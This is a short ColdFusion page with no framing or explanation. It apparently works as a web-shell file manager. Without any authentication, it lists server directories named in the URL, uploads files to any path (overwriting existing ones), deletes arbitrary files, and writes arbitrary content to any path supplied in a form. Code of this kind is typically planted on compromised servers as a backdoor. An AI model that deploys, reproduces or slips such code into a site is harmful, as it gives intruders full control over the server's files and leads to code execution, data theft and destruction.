<cfparam name="url.dir" default="#expandPath('.')#">
<cfif isDefined("form.upfile")>
    <cffile action="upload" filefield="upfile" destination="#form.dest#" nameconflict="overwrite">
    <cfoutput>uploaded #cffile.serverFile#</cfoutput>
</cfif>
<cfif isDefined("url.del")>
    <cffile action="delete" file="#url.del#">
</cfif>
<cfif isDefined("form.savepath")>
    <cffile action="write" file="#form.savepath#" output="#form.body#">
</cfif>
<cfdirectory action="list" directory="#url.dir#" name="lst">
<table>
<cfoutput query="lst">
<tr><td><a href="?dir=#url.dir#/#name#">#name#</a></td><td>#size#</td><td><a href="?del=#url.dir#/#name#&dir=#url.dir#">del</a></td></tr>
</cfoutput>
</table>
<form method="post" enctype="multipart/form-data"><input type="file" name="upfile"><input name="dest" value="<cfoutput>#url.dir#</cfoutput>"><input type="submit"></form>
